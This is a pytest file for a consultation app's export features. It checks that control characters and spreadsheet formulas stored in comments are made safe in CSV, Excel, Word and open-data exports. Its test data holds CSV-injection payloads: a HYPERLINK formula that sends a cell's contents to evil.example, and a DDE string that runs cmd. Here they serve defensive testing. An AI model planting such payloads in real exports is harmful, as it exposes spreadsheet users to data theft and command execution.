"""Exports are robust to whatever is stored (issue 17): text stored before the text policy,
with control characters XML cannot carry, still gives every format; and no CSV or Excel
cell is read as a formula (OWASP's "CSV injection")."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from sqlalchemy import text

from consult.exports.formats import FORMATS
from consult.extensions import db
from consult.textpolicy import FORMULA_STARTS, printable, spreadsheet_cell

from .exports_data import build

#: Characters XML 1.0 cannot carry, which PostgreSQL and SQLite store as they are.
CONTROLS = "\x01\x08\x0b\x0c\x1f\ufffe"


@pytest.fixture
def data(make_document, make_user, make_org):
    return build(make_document, make_user, make_org)


def _store(sql: str, **params) -> None:
    """Change a row behind the application's back, as data stored before the policy."""
    db.session.execute(text(sql), params)
    db.session.commit()
    db.session.expire_all()


def _with_controls(data) -> None:
    _store(
        "UPDATE comment SET body = :b WHERE id = :i",
        b=f"Hearings must{CONTROLS} be accessible.",
        i=data.comment.id,
    )
    _store(
        "UPDATE comment SET suggested_text = :s WHERE id = :i",
        s=f"Parliaments engage civil society openly, early{CONTROLS} and in good faith.",
        i=data.suggestion.id,
    )
    _store("UPDATE response SET reason = :r", r=f"Noted{CONTROLS} here.")
    _store("UPDATE organisation SET name = :n WHERE slug = 'seadra'", n=f"SEADRA{CONTROLS}")
    _store("UPDATE document SET committee = :c", c=f"Drafting{CONTROLS} Committee")


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_every_export_works_with_control_characters_stored(client, data, fmt):
    _with_controls(data)
    for version in (data.v1, data.v2):
        if fmt.startswith("changes") and version is data.v1:
            continue  # version 1 has no version before it
        resp = client.get(f"/documents/{data.doc.slug}/versions/{version.number}/export/{fmt}")
        assert resp.status_code == 200, (fmt, version.number)
        assert resp.data


def test_word_and_excel_reports_carry_the_text_without_the_controls(client, data):
    from docx import Document as WordDocument
    from openpyxl import load_workbook

    _with_controls(data)
    base = f"/documents/{data.doc.slug}/versions/1/export"
    word = WordDocument(io.BytesIO(client.get(f"{base}/report-docx").data))
    cells = [c.text for t in word.tables for row in t.rows for c in row.cells]
    assert "Hearings must be accessible." in cells
    assert "SEADRA" in cells
    assert not any(ch in cell for cell in cells for ch in CONTROLS)
    book = load_workbook(io.BytesIO(client.get(f"{base}/report-xlsx").data))
    values = [c.value for row in book["Comments"].iter_rows() for c in row]
    assert "Hearings must be accessible." in values
    assert "Noted here." in values
    rows = list(csv.reader(io.StringIO(client.get(f"{base}/report-csv").data.decode("utf-8-sig"))))
    assert "Hearings must be accessible." in [cell for row in rows for cell in row]


# ------------------------------------------------------------------ formulas

FORMULAS = {
    "body": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "+1 the committee agrees",
    "committee": "-2+3",
}


def _with_formulas(data) -> None:
    _store("UPDATE comment SET body = :b WHERE id = :i", b=FORMULAS["body"], i=data.comment.id)
    _store("UPDATE organisation SET name = :n WHERE slug = 'seadra'", n=FORMULAS["org"])
    _store("UPDATE response SET reason = :r", r=FORMULAS["reason"])
    _store("UPDATE comment SET body = :b WHERE id = :i", b="\tTabbed", i=data.suggestion.id)


def _assert_no_formula(cells) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert not bad, bad


def test_report_csv_neutralises_formulas(client, data):
    _with_formulas(data)
    body = client.get(f"/documents/{data.doc.slug}/versions/1/export/report-csv").data
    cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    _assert_no_formula(cells)
    assert "'" + FORMULAS["body"] in cells
    assert "'" + FORMULAS["org"] in cells
    assert "'" + FORMULAS["reason"] in cells
    assert "'\tTabbed" in cells


def test_report_xlsx_stores_formulas_as_text(client, data):
    from openpyxl import load_workbook

    _with_formulas(data)
    blob = client.get(f"/documents/{data.doc.slug}/versions/1/export/report-xlsx").data
    book = load_workbook(io.BytesIO(blob))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    _assert_no_formula([c.value for c in cells])
    assert "'" + FORMULAS["body"] in [c.value for c in cells]
    assert "'" + FORMULAS["org"] in [c.value for c in cells]


def test_open_data_csv_neutralises_formulas_and_json_keeps_the_text(client, data):
    _with_formulas(data)
    _store("UPDATE document SET committee = :c", c=FORMULAS["committee"])
    blob = client.get(f"/documents/{data.doc.slug}/versions/1/export/opendata").data
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        csvs = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".csv")}
        data_json = json.loads(z.read(f"{data.doc.slug}/data.json"))
        readme = z.read(f"{data.doc.slug}/README.md").decode("utf-8")
    cells = [c for body in csvs.values() for row in csv.reader(io.StringIO(body)) for c in row]
    _assert_no_formula(cells)
    assert "'" + FORMULAS["body"] in cells
    assert "'" + FORMULAS["org"] in cells
    assert "'" + FORMULAS["committee"] in cells
    # The data as stored is in data.json, and the README says why the CSV differs.
    assert FORMULAS["body"] in [c["body"] for c in data_json["comments"]]
    assert "single quote" in readme


def test_spreadsheet_cell_and_printable():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}1") == f"'{start}1"
    assert spreadsheet_cell("Plain words - with a dash") == "Plain words - with a dash"
    assert spreadsheet_cell(-1) == -1 and spreadsheet_cell(0.5) == 0.5
    assert spreadsheet_cell(None) is None
    assert spreadsheet_cell("=1\x01") == "'=1\x01"  # only the quote: a reader can undo it
    assert printable("a\x00b\x01c\td\ne\rf\ufffeg\ud800") == "abc\td\ne\rfg"
    assert printable(None) == ""
